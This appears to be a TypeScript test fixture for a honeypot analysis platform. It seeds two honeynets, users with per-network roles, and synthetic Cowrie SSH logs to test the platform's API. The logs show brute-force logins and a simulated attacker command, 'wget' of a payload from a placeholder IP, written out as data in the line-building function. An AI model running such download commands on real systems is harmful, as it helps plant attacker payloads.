/** A site of two honeynets, alpha and bravo, that saw different things and one payload alike, with its API. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { HoneynetRole, UserRole } from '@apiary/model/api/account.ts';
import { Analysis } from '@apiary/server/analysis/analysis.ts';
import { createApi } from '@apiary/server/api/app.ts';
import { Arrivals } from '@apiary/server/reports/arrivals.ts';
import { Catalogue } from '@apiary/server/reports/catalogue.ts';
import { StateDatabase } from '@apiary/server/state/database.ts';
import { joinHoneynet, setHoneynet, setHoneypot } from '@apiary/server/state/inventory.ts';
import { saveQuestion } from '@apiary/server/state/saved-questions.ts';
import { addUser } from '@apiary/server/state/users.ts';
import { createLookups } from '@apiary/server/store/lookups.ts';
import { migrate } from '@apiary/server/store/schema.ts';
import { Store } from '@apiary/server/store/store.ts';
import { landing_columns } from '@apiary/server/store/template.ts';
import { submodule as cowrie } from '@apiary/submodules/cowrie/index.ts';
import { readRecordedSessions, readReports } from '@apiary/submodules/report.ts';
import type { FastifyInstance } from 'fastify';

export const nets = ['alpha', 'bravo'] as const;
export type Net = (typeof nets)[number];
export const begin_ms = Date.UTC(2026, 4, 31, 12);
export const now_ms = Date.UTC(2026, 5, 1);
export const password = 'a long password';
/** What both saw, so that one incident holds attacks of both. */
export const payload = 'c0'.repeat(32);
const no_content = {
  type: 'data',
  size: 100,
  md5: '',
  sha1: '',
  entropy: 0,
  strings_are_cut: false,
  entries: null,
  entries_are_cut: false,
  trouble: '',
};
/** Sent to one honeynet's sensor only. */
export const file_of: Record<Net, string> = { alpha: 'aa'.repeat(32), bravo: 'bb'.repeat(32) };
export const attacker_of: Record<Net, string> = { alpha: '203.0.113.11', bravo: '203.0.113.222' };
export const honeypot_address_of: Record<Net, string> = { alpha: '192.0.2.11', bravo: '192.0.2.222' };
export const secret_of: Record<Net, string> = { alpha: 'alphaSECRETpw', bravo: 'bravoSECRETpw' };
/** Sensor, honeypot, honeynet and collector of a net have its number. */
export const number_of: Record<Net, number> = { alpha: 1, bravo: 2 };
/** Log-ins, so that counts differ: a count that holds the other's shows. */
const log_ins: Record<Net, number> = { alpha: 7, bravo: 30 };

function linesOf(net: Net): string[] {
  const session = `${net}5e55`;
  const line = (second: number, eventid: string, more: object): string =>
    JSON.stringify({
      session,
      protocol: 'ssh',
      src_ip: attacker_of[net],
      src_port: 40_000,
      dst_ip: honeypot_address_of[net],
      dst_port: 22,
      eventid: `cowrie.${eventid}`,
      sensor: `${net}-host`,
      timestamp: new Date(begin_ms + second * 1000 + (net === 'bravo' ? 120_000 : 0)).toISOString(),
      ...more,
    });
  const url = `http://198.51.100.9/${net}-file`;
  return [
    line(0, 'session.connect', { message: `New connection of ${net}` }),
    line(1, 'client.version', { version: `SSH-2.0-${net}client`, message: '' }),
    ...Array.from({ length: log_ins[net] }, (_, index) =>
      line(2 + index, 'login.failed', {
        username: `${net}user${index}`,
        password: `${secret_of[net]}${index}`,
        message: `login attempt [${net}user/${secret_of[net]}${index}] failed`,
      }),
    ),
    line(50, 'login.success', { username: `${net}root`, password: secret_of[net], message: 'succeeded' }),
    line(51, 'command.input', { input: `echo ${net}command; wget ${url}`, message: `CMD: echo ${net}` }),
    line(52, 'session.file_download', { url, outfile: 'x', shasum: payload, message: `Downloaded ${net}` }),
    line(53, 'session.closed', { duration: '5', message: 'Connection lost' }),
  ];
}

async function landLines(store: Store): Promise<void> {
  const rows = nets.flatMap((net) =>
    linesOf(net).map((text, index) =>
      [
        number_of[net],
        'json',
        `/log/${net}.json`,
        '',
        number_of[net],
        index,
        0,
        0,
        text.length,
        '2026-05-31 12:10:00.000000',
        number_of[net],
        text.replaceAll('\\', '\\\\'),
      ].join('\t'),
    ),
  );
  const columns = landing_columns.map(([name]) => name);
  await store.insertTsv('landing_cowrie_json', columns, Buffer.from(`${rows.join('\n')}\n`));
}

function describeSite(state: StateDatabase): void {
  for (const net of nets) {
    const id = number_of[net];
    assert.equal(setHoneynet(state, 'test', null, { name: `${net}-net`, owners: net, description: '' }), id);
    const honeypot = { name: `${net}-pot`, interaction: 'medium', role: 'server', location: net } as const;
    const rest = { latitude: null, longitude: null, description: '', services: [], retired: false };
    assert.equal(setHoneypot(state, 'test', null, { ...honeypot, ...rest }), id);
    joinHoneynet(state, 'test', id, id, 0);
    state.run("INSERT INTO collector VALUES (?, ?, 'honeypot', 0, NULL)", id, `${net}-collector`);
    state.run(
      "INSERT INTO sensor (sensor_id, name, type, created_ms) VALUES (?, ?, 'cowrie', 0)",
      id,
      `${net}-sensor`,
    );
    state.run('INSERT INTO sensor_collector VALUES (?, ?, 0, NULL)', id, id);
    state.run('INSERT INTO sensor_honeypot VALUES (?, ?, 0, NULL)', id, id);
    state.run(
      "INSERT INTO gap (sensor_id, stream, source, generation, from_place, to_place, reason, noticed_ms) VALUES (?, 'json', ?, '1', '0', '9', 'lost', ?)",
      id,
      `/log/${net}.json`,
      begin_ms,
    );
    state.run(
      "INSERT INTO alert (kind, subject, message, first_ms, last_ms) VALUES ('silent', ?, ?, ?, ?)",
      `${net}-sensor`,
      `${net} is silent`,
      begin_ms,
      begin_ms,
    );
    state.run("INSERT INTO refusal VALUES (?, ?, 'unknown_sensor', 3, 5, ?)", `${net}-peer`, `${net}-x`, net);
    for (const sha256 of [file_of[net], payload]) {
      state.run('INSERT OR IGNORE INTO artifact VALUES (?, 10, ?)', sha256, begin_ms);
      state.run('INSERT INTO artifact_receipt VALUES (?, ?, ?, ?, ?)', sha256, id, id, begin_ms, begin_ms);
    }
    state.run(
      "INSERT INTO known_source (network, kind, name, since_ms) VALUES (?, 'own_scanner', ?, 0)",
      attacker_of[net],
      `${net}-scanner`,
    );
    saveQuestion(state, `${net}-person`, { name: `${net} question`, address: '/explore' }, begin_ms);
  }
}

/** Users of alpha in each role, with and without secrets, and of all. */
async function addUsers(state: StateDatabase): Promise<void> {
  const add = (
    name: string,
    role: UserRole,
    honeynets: HoneynetRole[] | null,
    sees_secrets: boolean | null = null,
  ): Promise<unknown> => addUser(state, 'test', { name, role, password, honeynets, sees_secrets });
  const alpha = (role: UserRole): HoneynetRole[] => [{ honeynet_id: number_of.alpha, role }];
  await add('everywhere', 'administrator', null);
  await add('blind', 'analyst', null, false);
  await add('alpha-analyst', 'analyst', alpha('analyst'));
  await add('alpha-administrator', 'administrator', alpha('administrator'));
  await add('alpha-viewer', 'viewer', alpha('viewer'));
  await add('nowhere', 'administrator', []);
  await add('both', 'viewer', [...alpha('analyst'), { honeynet_id: number_of.bravo, role: 'viewer' }]);
}

export interface Site {
  app: FastifyInstance;
  state: StateDatabase;
  store: Store;
  arrivals: Arrivals;
  cookiesOf: (name: string) => Promise<Record<string, string>>;
  close: () => Promise<void>;
}

export async function openSite(): Promise<Site> {
  const directory = mkdtempSync(join(tmpdir(), 'apiary-site-'));
  const store = new Store({ directory });
  await store.whenUp();
  await createLookups(store);
  await migrate(store, [cowrie]);
  const state = new StateDatabase(':memory:');
  describeSite(state);
  await addUsers(state);
  await landLines(store);
  const scope = { pause_seconds: 3600, nets: [], honeypots: [], gateways: [], kept_from_us: 0 };
  const analysis = new Analysis({ store, state, scope: () => scope, log: () => undefined });
  await analysis.load();
  analysis.note(1n);
  analysis.note(2n);
  await analysis.pass();
  const arrivals = new Arrivals();
  const app = await createApi({
    store,
    state,
    catalogue: new Catalogue([{ sensor_type: 'cowrie', title: cowrie.title, reports: readReports(cowrie) }]),
    recordings: {
      sql: new Map([['cowrie', 'SELECT taken_sha256 FROM cowrie_ttylogs']]),
      sessions_sql: new Map([['cowrie', readRecordedSessions(cowrie)!]]),
      read: async () => null,
    },
    files: {
      // Its strings tell whose it is, and a secret.
      examine: async (sha256) => {
        const net = nets.find((one) => file_of[one] === sha256) ?? 'alpha';
        const strings = [1, 2, 3, 4].map((number) => `SECRETpw of ${attacker_of[net]}, ${number}`);
        const head_base64 = Buffer.from('bytes').toString('base64');
        return { ...no_content, sha256, strings, head_base64 };
      },
      lock: async (sha256) => Buffer.from(`locked ${sha256}`),
    },
    writeEvidence: async (number) =>
      ({ path: join(directory, `evidence-${number}`), remove: () => undefined }) as never,
    analysis: {
      regroup: async () => {
        await analysis.regroup();
      },
      rejudge: () => undefined,
      pause_seconds: 3600,
    },
    settings: { read: () => assert.fail('settings were read'), loadGeo: async () => undefined },
    arrivals,
    isWell: () => true,
    reporter: { organisation: 'Example', contact: 'abuse@csirt.example' },
    demo: false,
    web_root: directory,
    now_ms: () => now_ms,
  });
  return {
    app,
    state,
    store,
    arrivals,
    cookiesOf: async (name) => {
      const answer = await app.inject({ method: 'POST', url: '/api/v1/login', payload: { name, password } });
      assert.equal(answer.statusCode, 200, name);
      return { apiary_login: answer.cookies[0]!.value };
    },
    close: async () => {
      await app.close();
      await store.close();
      state.close();
      rmSync(directory, { recursive: true });
    },
  };
}
